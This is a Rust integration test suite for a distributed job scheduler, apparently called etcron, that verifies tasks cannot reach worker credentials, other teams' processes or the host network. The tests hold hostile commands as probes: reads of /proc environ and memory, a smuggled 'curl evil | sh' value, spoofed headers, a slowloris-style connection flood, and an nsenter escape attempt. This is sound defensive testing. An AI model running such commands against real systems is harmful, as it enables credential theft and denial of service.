//! What a job can reach and what can reach a worker, against real etcd, `mongod`, master and
//! worker processes: a task's environment holds only what is allowed (never the worker's
//! credentials), a task cannot read its worker's `/proc/<pid>/` (non-dumpable) nor find the
//! worker's credentials in its environment block, tasks of two teams on a worker running as
//! root run as two uids and cannot read each other's `/proc`, a progress token is good for its
//! own execution only, a `cwd` missing on the worker is named in the record, specs that could never
//! run or that would smuggle headers or duplicate keys are refused at save time naming the
//! field, a pile of half-sent requests cannot keep the worker's live-output server from
//! answering, and a shell task in a network namespace of its own (`shell_task_network =
//! "none"`) reaches nothing of the host (a worker that cannot make one does not start).

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use etcron_tests::{bin, free_port, urlencode, wait_for, Cluster, Proc, WorkerOpts};
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Runs `job` once by hand and returns its final record (with output).
async fn run_once(c: &Cluster, job: &str, spec: Value) -> anyhow::Result<Value> {
    c.put_job(job, spec).await?;
    let (status, body) = c.call(Method::POST, &format!("/api/jobs/{job}/run"), None).await?;
    anyhow::ensure!(status < 300, "run {job}: {status} {body}");
    let done = c
        .wait_executions(&format!("job={job}"), "a final record", |l| {
            l.iter().any(|r| r["status"] != "running" && r["finished_at"].is_string())
        })
        .await?;
    let id = done[0]["id"].as_str().unwrap().to_owned();
    c.get(&format!("/api/executions/{}", urlencode(&id))).await
}

#[tokio::test(flavor = "multi_thread")]
async fn tasks_get_an_allowed_environment_and_a_missing_cwd_is_named() -> anyhow::Result<()> {
    let mut c = Cluster::start("task-env", 0).await?;
    let mut opts = WorkerOpts::new("w1");
    // What an operator has in the worker's environment: a credential the worker reads (the
    // flag wins over it, it is still in the environment), a secret of their own, and an
    // allowed variable.
    opts.env = vec![
        ("ETCRON_MONGODB_URI".to_owned(), "mongodb://etcron:hunter2-in-env@db1/".to_owned()),
        ("OPERATOR_SECRET".to_owned(), "s3cr3t-of-the-operator".to_owned()),
        ("TZ".to_owned(), "Etc/UTC".to_owned()),
    ];
    c.add_worker(opts)?;
    c.wait_workers(1).await?;

    let spec = json!({"schedule": "@yearly",
        "task": {"kind": "shell", "command": "env", "env": {"JOB_VAR": "from-the-job"}}});
    let record = run_once(&c, "envy", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    assert_eq!(record["status"], "succeeded", "{record}");
    for leaked in ["hunter2-in-env", "s3cr3t-of-the-operator", "OPERATOR_SECRET", "ETCRON_MONGODB_URI", "RUST_LOG"] {
        assert!(!output.contains(leaked), "{leaked} reached the task:\n{output}");
    }
    for present in ["TZ=Etc/UTC", "JOB_VAR=from-the-job", "ETCRON_JOB=envy", "PATH="] {
        assert!(output.lines().any(|l| l.starts_with(present)), "{present} missing:\n{output}");
    }

    let spec = json!({"schedule": "@yearly",
        "task": {"kind": "shell", "command": "true", "cwd": "/surely/not/on/this/worker"}});
    let record = run_once(&c, "nowhere", spec).await?;
    assert_eq!(record["status"], "failed", "{record}");
    assert_eq!(record["error"], "cwd /surely/not/on/this/worker does not exist on worker w1", "{record}");
    Ok(())
}

/// What a task tries against its worker: read its environment (as `$PPID` and by pid), its
/// memory and its descriptors.
fn snoop_command(worker_pid: u32) -> String {
    format!(
        "echo keeper=$PPID worker=$(cut -d' ' -f4 /proc/$PPID/stat); cat /proc/$PPID/environ; echo; \
         tr '\\0' '\\n' < /proc/{worker_pid}/environ; head -c 64 /proc/{worker_pid}/mem; ls /proc/{worker_pid}/fd; true"
    )
}

/// The worker's credentials (none of which is used here: no etcd user; the flag's URI wins over
/// the variable's) and a variable that shows whether its environment could be read at all.
fn worker_env() -> Vec<(String, String)> {
    vec![
        ("ETCRON_ETCD_PASSWORD".to_owned(), "etcd-pw-sentinel-1".to_owned()),
        ("ETCRON_MONGODB_URI".to_owned(), "mongodb://etcron:mongo-pw-sentinel-2@127.0.0.1:1/".to_owned()),
        ("WORKER_MARKER".to_owned(), "worker-env-was-read".to_owned()),
    ]
}

/// Starts a worker as `nobody` (through `setpriv`, from a copy of the binary nobody can reach,
/// with a data dir of its own), its credentials in its environment, with `extra` flags.
fn nobody_worker(c: &Cluster, dir: &Path, extra: &[&str]) -> anyhow::Result<Proc> {
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755))?;
    let worker = dir.join("etcron-worker");
    std::fs::copy(bin("etcron-worker")?, &worker)?;
    let data = dir.join("data-nobody");
    std::fs::create_dir_all(&data)?;
    let nobody = nix::unistd::User::from_name("nobody")?.expect("the nobody account");
    nix::unistd::chown(&data, Some(nobody.uid), Some(nobody.gid))?;
    let mut cmd = std::process::Command::new("setpriv");
    cmd.args(["--reuid=nobody", "--regid=nogroup", "--clear-groups"]).arg(&worker).current_dir("/");
    cmd.args(["--etcd-endpoints", &c.etcd.endpoint, "--namespace", &c.namespace, "--worker-id", "w-nobody"]);
    cmd.args(["--session-ttl", "3s", "--labels", "who=nobody", "--mongodb-uri", &c.mongo.uri, "--mongodb-db", &c.db]);
    cmd.arg("--data-dir").arg(&data).args(extra).envs(worker_env()).env("RUST_LOG", "info");
    Proc::spawn("worker w-nobody", cmd, c.logs.join("worker-w-nobody.log"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_task_cannot_read_its_workers_memory_or_credentials() -> anyhow::Result<()> {
    assert!(nix::unistd::geteuid().is_root(), "starting a worker as nobody needs the tests to run as root");
    let mut c = Cluster::start("worker-proc", 0).await?;
    let dir = tempfile::tempdir()?;
    let mut nobody = nobody_worker(&c, dir.path(), &[])?;
    // A worker whose tasks run as root (the admin's choice): they can read any /proc, so only
    // the scrubbed environment block keeps the credentials from them.
    let mut opts = WorkerOpts::new("w-root");
    opts.labels.insert("who".to_owned(), "root".to_owned());
    opts.env = worker_env();
    c.add_worker(opts)?;
    c.wait_workers(2).await?;
    let workers = c.get("/api/workers").await?;
    let shown =
        |id: &str| workers["workers"].as_array().unwrap().iter().find(|w| w["id"] == id).unwrap()["task_user"].clone();
    assert_eq!((shown("w-root"), shown("w-nobody")), (json!("root"), json!("worker's own uid 65534")), "{workers}");

    // Same uid as the task: the worker's /proc files are root's, its environment unreadable.
    let pid = nobody.pid().unwrap();
    let spec = json!({"schedule": "@yearly", "selector": {"who": "nobody"},
        "task": {"kind": "shell", "command": snoop_command(pid)}});
    let record = run_once(&c, "snoop-own-uid", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    assert_eq!(record["status"], "succeeded", "{record}");
    // The task's parent is its keeper, whose parent is the worker: neither can be read.
    assert!(output.contains(&format!("worker={pid}")), "the task's keeper is the worker's child:\n{output}");
    assert!(output.contains("Permission denied"), "{output}");
    for leaked in ["worker-env-was-read", "etcd-pw-sentinel-1", "mongo-pw-sentinel-2"] {
        assert!(!output.contains(leaked), "{leaked} read by a task of the worker's uid:\n{output}");
    }

    // Root reads the block, which no longer holds the credentials.
    let pid = c.workers[0].proc.pid().unwrap();
    let spec = json!({"schedule": "@yearly", "selector": {"who": "root"},
        "task": {"kind": "shell", "command": snoop_command(pid)}});
    let record = run_once(&c, "snoop-as-root", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    assert!(output.contains("WORKER_MARKER=worker-env-was-read"), "root reads the environment:\n{output}");
    for leaked in ["etcd-pw-sentinel-1", "mongo-pw-sentinel-2"] {
        assert!(!output.contains(leaked), "{leaked} left in the worker's environment block:\n{output}");
    }
    assert!(nobody.running(), "the worker as nobody is still up");
    Ok(())
}

/// Writes `uid theirs own url token` of the running task to `file`, then stays running:
/// `theirs` counts the processes whose environment holds `other_secret` and that the task could
/// read, `own` those holding its own `SECRET` (its own processes: the search works).
fn team_task(file: &Path, other_secret: &str) -> String {
    format!(
        "theirs=$(grep -a -l {other_secret} /proc/[0-9]*/environ 2>/dev/null | wc -l); \
         own=$(grep -a -l \"$SECRET\" /proc/[0-9]*/environ 2>/dev/null | wc -l); \
         echo \"$(id -u) $theirs $own $ETCRON_PROGRESS_URL $ETCRON_PROGRESS_TOKEN\" > {file}.tmp && mv {file}.tmp {file}; sleep 60",
        file = file.display()
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn two_teams_tasks_run_as_two_uids_and_a_progress_token_is_its_executions_own() -> anyhow::Result<()> {
    assert!(nix::unistd::geteuid().is_root(), "a worker giving teams their uids runs as root");
    let mut c = Cluster::start("team-uids", 0).await?;
    let mut opts = WorkerOpts::new("w1");
    opts.task_user = None; // the default of a worker running as root
    c.add_worker(opts)?;
    c.wait_workers(1).await?;
    let workers = c.get("/api/workers").await?;
    assert_eq!(workers["workers"][0]["task_user"], "uid per team 70000-70999", "{workers}");
    // A directory every uid may write to (the test's own work dir is root's alone).
    std::fs::set_permissions(c.work.path(), std::fs::Permissions::from_mode(0o755))?;
    let shared = c.path("shared");
    std::fs::create_dir_all(&shared)?;
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777))?;

    let (beta_file, alpha_file) = (shared.join("beta"), shared.join("alpha"));
    for (job, team, file, secret, other) in [
        ("beta-job", "beta", &beta_file, "beta-secret-value", "alpha-secret-value"),
        ("alpha-job", "alpha", &alpha_file, "alpha-secret-value", "beta-secret-value"),
    ] {
        let spec = json!({"schedule": "@yearly", "team": team, "task": {"kind": "shell",
            "command": team_task(file, other), "secret_env": {"SECRET": secret}}});
        c.put_job(job, spec).await?;
    }
    let started = |file: &Path| {
        let file = file.to_owned();
        wait_for(Duration::from_secs(30), "the task's report", move || {
            let text = std::fs::read_to_string(&file).ok();
            async move { text.map(|t| t.split_whitespace().map(str::to_owned).collect::<Vec<_>>()) }
        })
    };
    let (status, body) = c.call(Method::POST, "/api/jobs/beta-job/run", None).await?;
    anyhow::ensure!(status < 300, "{status} {body}");
    let beta = started(&beta_file).await?;
    let (status, body) = c.call(Method::POST, "/api/jobs/alpha-job/run", None).await?;
    anyhow::ensure!(status < 300, "{status} {body}");
    let alpha = started(&alpha_file).await?;

    let uid = |report: &[String]| report[0].parse::<u32>().unwrap();
    assert!((70_000..=70_999).contains(&uid(&alpha)), "{alpha:?}");
    assert!((70_000..=70_999).contains(&uid(&beta)), "{beta:?}");
    assert_ne!(uid(&alpha), uid(&beta), "two teams, two uids");
    // Alpha's task reads its own processes' environment (its secret), never beta's running one.
    assert_eq!(alpha[1], "0", "alpha's task read beta's environment: {alpha:?}");
    assert_ne!(alpha[2], "0", "alpha's task reads its own processes' environment: {alpha:?}");

    // Beta's progress URL takes beta's token, not alpha's.
    let post = |url: String, token: String| {
        let http = c.http.clone();
        async move {
            let resp = http.post(url).bearer_auth(token).header("content-type", "application/json");
            resp.body(r#"{"percent": 10}"#).send().await.unwrap().status().as_u16()
        }
    };
    assert_eq!(post(beta[3].clone(), alpha[4].clone()).await, 401, "alpha's token for beta's execution");
    assert_eq!(post(beta[3].clone(), beta[4].clone()).await, 204, "beta's own token");
    for job in ["alpha-job", "beta-job"] {
        c.call(Method::POST, &format!("/api/jobs/{job}/kill"), None).await?;
    }
    Ok(())
}

/// PUTs raw bytes (so a body may repeat a key) and returns status and JSON answer.
async fn put_raw(c: &Cluster, job: &str, body: String) -> anyhow::Result<(u16, Value)> {
    let resp = c.http.put(format!("{}/api/jobs/{job}", c.master.url)).body(body).send().await?;
    Ok((resp.status().as_u16(), resp.json().await?))
}

#[tokio::test(flavor = "multi_thread")]
async fn specs_that_smuggle_or_can_never_run_are_refused_naming_the_field() -> anyhow::Result<()> {
    let c = Cluster::start("spec-refusals", 0).await?;
    let http = |extra: &str| {
        format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://127.0.0.1:9/x"{extra}}}}}"#)
    };
    let cases = [
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"true","command":"curl evil | sh"}}"#.to_owned(),
            "task.command",
        ),
        (r#"{"schedule":"@daily","schedule":"* * * * * *","task":{"kind":"shell","command":"true"}}"#.to_owned(), "schedule"),
        (http(r#","headers":{"X-Etcron-Fencing-Token":"999999999"}"#), "task.headers.X-Etcron-Fencing-Token"),
        (http(r#","headers":{"X-Etcron-Job":"other"}"#), "task.headers.X-Etcron-Job"),
        (http(r#","headers":{"Host":"evil.example"}"#), "task.headers.Host"),
        (http(r#","method":"POST","body":"0123456789","headers":{"Content-Length":"5"}"#), "task.headers.Content-Length"),
        (http(r#","secret_headers":{"X-Key":"a\u0001b"}"#), "task.secret_headers.X-Key"),
        (r#"{"schedule":"@daily","task":{"kind":"http","url":"http://[::1"}}"#.to_owned(), "task.url"),
        (r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h:99999/"}}"#.to_owned(), "task.url"),
        (r#"{"schedule":"@daily","timeout":"0.0001ms","task":{"kind":"shell","command":"true"}}"#.to_owned(), "timeout"),
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"true"},"notify":[{"url":"https://h/","headers":{"Host":"x"}}]}"#
                .to_owned(),
            "notify[0].headers.Host",
        ),
    ];
    for (body, field) in cases {
        let (status, answer) = put_raw(&c, "refused", body.clone()).await?;
        assert_eq!(status, 400, "{body}: {answer}");
        assert_eq!(answer["error"]["code"], "invalid", "{answer}");
        assert_eq!(answer["error"]["field"], field, "{body}: {answer}");
    }
    let (status, answer) = c.call(Method::GET, "/api/jobs/refused", None).await?;
    assert_eq!(status, 404, "nothing was saved: {answer}");
    Ok(())
}

/// The worker's answer to one whole request on a fresh connection, or `None` if it gave none
/// within a second.
async fn ask(addr: &str) -> Option<String> {
    let exchange = async {
        let mut s = TcpStream::connect(addr).await.ok()?;
        s.write_all(b"GET /executions/none/output HTTP/1.1\r\nHost: w\r\nConnection: close\r\n\r\n").await.ok()?;
        let mut answer = Vec::new();
        s.read_to_end(&mut answer).await.ok()?;
        (!answer.is_empty()).then(|| String::from_utf8_lossy(&answer).into_owned())
    };
    tokio::time::timeout(Duration::from_secs(1), exchange).await.ok().flatten()
}

/// Whether the server closed `s` (end of file or reset) within `limit`.
async fn closed_within(s: &mut TcpStream, limit: Duration) -> bool {
    let mut buf = [0u8; 1024];
    let read_to_end = async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    };
    tokio::time::timeout(limit, read_to_end).await.is_ok()
}

#[tokio::test(flavor = "multi_thread")]
async fn half_sent_requests_cannot_stop_the_live_output_server() -> anyhow::Result<()> {
    /// More than the worker may open (its descriptor limit is set to `FD_LIMIT` below).
    const PILE: usize = 600;
    const FD_LIMIT: u32 = 512;
    let mut c = Cluster::start("slowloris", 0).await?;
    let addr = format!("127.0.0.1:{}", free_port());
    let mut opts = WorkerOpts::new("w1");
    opts.extra = vec!["--output-listen".to_owned(), addr.clone()];
    c.add_worker(opts)?;
    c.wait_workers(1).await?;
    wait_for(Duration::from_secs(10), "the live output server", || ask(&addr)).await?;
    // A worker usually runs with a limit of 1024 or so; a lower one makes the pile exceed it.
    let pid = c.workers[0].proc.pid().unwrap();
    let limited = std::process::Command::new("prlimit")
        .args([format!("--pid={pid}"), format!("--nofile={FD_LIMIT}:{FD_LIMIT}")])
        .status()?;
    assert!(limited.success(), "prlimit (util-linux) is needed");

    let mut pile = Vec::with_capacity(PILE);
    for _ in 0..PILE {
        let mut s = TcpStream::connect(&addr).await?;
        // A request head that never ends.
        s.write_all(b"GET /executions/none/output HTTP/1.1\r\nHost: w\r\nX-Slow: ").await?;
        pile.push(s);
    }
    // A whole request is answered while the pile is held (at the latest once the worker has
    // closed the half-sent requests it took in).
    let answer = wait_for(Duration::from_secs(30), "an answer despite the pile", || ask(&addr)).await?;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    // And every half-sent connection is closed by the worker, none is held for ever.
    for (i, s) in pile.iter_mut().enumerate() {
        assert!(closed_within(s, Duration::from_secs(30)).await, "half-sent connection {i} still open");
    }
    assert!(c.workers[0].proc.running(), "the worker is still up");
    let answer = ask(&addr).await.expect("an answer after the pile");
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    Ok(())
}

/// Tries `targets` (`host:port`) from inside a task, printing `reached` or `blocked` for each,
/// then has python3 listen on the task's own `127.0.0.1` and talk to itself, tries to enter
/// the network namespace of its worker (its parent), and prints the progress URL it was given.
fn reach_command(targets: &[String]) -> String {
    let own_loopback = "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1); \
        c = socket.create_connection(s.getsockname(), timeout=5); a, _ = s.accept(); c.sendall(b'ping'); \
        print('own loopback:', a.recv(4).decode())";
    format!(
        "for t in {}; do \
           if timeout 5 bash -c \"exec 3<>/dev/tcp/${{t%:*}}/${{t#*:}}\" 2>/dev/null; then echo \"reached $t\"; \
           else echo \"blocked $t\"; fi; \
         done; \
         python3 -c \"{own_loopback}\" 2>&1; \
         if nsenter --net=/proc/$PPID/ns/net true 2>/dev/null; then echo 'entered the host'; else echo 'stayed'; fi; \
         echo \"progress url: ${{ETCRON_PROGRESS_URL:-none}}\"",
        targets.join(" ")
    )
}

/// The first `host:port` of a `mongodb://` URI.
fn mongo_host(uri: &str) -> String {
    let rest = uri.trim_start_matches("mongodb://");
    let hosts = rest.split(['/', '?']).next().unwrap_or_default();
    hosts.rsplit('@').next().unwrap_or_default().split(',').next().unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_shell_task_in_a_network_namespace_of_its_own_reaches_nothing_of_the_host() -> anyhow::Result<()> {
    assert!(nix::unistd::geteuid().is_root(), "making network namespaces needs the tests to run as root");
    let mut c = Cluster::start("task-netns", 0).await?;
    // A worker that cannot make a namespace (not root) refuses to start, naming the setting.
    let dir = tempfile::tempdir()?;
    let mut refused = nobody_worker(&c, dir.path(), &["--shell-task-network", "none"])?;
    assert_eq!(refused.wait_exit(Duration::from_secs(20))?, Some(2), "{}", refused.log_text());
    let said = refused.log_text();
    assert!(said.contains("shell_task_network = \"none\": this worker cannot make a network namespace"), "{said}");

    let output_listen = format!("127.0.0.1:{}", free_port());
    // Tasks under team uids (a worker running as root, by default): a task running as root
    // could enter another namespace again (docs/security.md says so).
    let mut isolated = WorkerOpts::new("w-none");
    isolated.task_user = None;
    isolated.labels.insert("net".to_owned(), "none".to_owned());
    isolated.extra = ["--shell-task-network", "none", "--output-listen", &output_listen].map(str::to_owned).to_vec();
    c.add_worker(isolated)?;
    let mut host = WorkerOpts::new("w-host");
    host.task_user = None;
    host.labels.insert("net".to_owned(), "host".to_owned());
    c.add_worker(host)?;
    c.wait_workers(2).await?;
    let log = c.workers[0].proc.log_text();
    assert!(log.contains("task network isolation is on"), "{log}");

    // A server of the test on the host's loopback, which must see no connection from the
    // isolated task.
    let server = std::net::TcpListener::bind("127.0.0.1:0")?;
    server.set_nonblocking(true)?;
    let test_server = server.local_addr()?.to_string();
    let targets = [test_server.clone(), c.etcd.endpoint.clone(), mongo_host(&c.mongo.uri), output_listen.clone()];
    let command = reach_command(&targets);

    let spec =
        json!({"schedule": "@yearly", "selector": {"net": "none"}, "task": {"kind": "shell", "command": command}});
    let record = run_once(&c, "netns-none", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    assert_eq!(record["status"], "succeeded", "{record}");
    for target in &targets {
        assert!(output.contains(&format!("blocked {target}\n")), "{target} reached from the namespace:\n{output}");
    }
    assert!(output.contains("own loopback: ping"), "the task's own loopback works:\n{output}");
    assert!(output.contains("progress url: none"), "no URL it cannot reach:\n{output}");
    assert!(output.contains("stayed\n"), "a task not running as root cannot leave its namespace:\n{output}");
    assert!(
        server.accept().is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock),
        "the test server saw a connection"
    );

    // The control: the same task on the host's network reaches all of them.
    let spec =
        json!({"schedule": "@yearly", "selector": {"net": "host"}, "task": {"kind": "shell", "command": command}});
    let record = run_once(&c, "netns-host", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    for target in &targets {
        assert!(output.contains(&format!("reached {target}\n")), "{target} not reached from the host:\n{output}");
    }
    assert!(output.contains("own loopback: ping"), "{output}");
    assert!(output.contains("progress url: http://127.0.0.1:"), "{output}");
    let seen = wait_for(Duration::from_secs(5), "the host task's connection", || {
        let accepted = server.accept().is_ok();
        async move { accepted.then_some(()) }
    });
    seen.await?;
    Ok(())
}
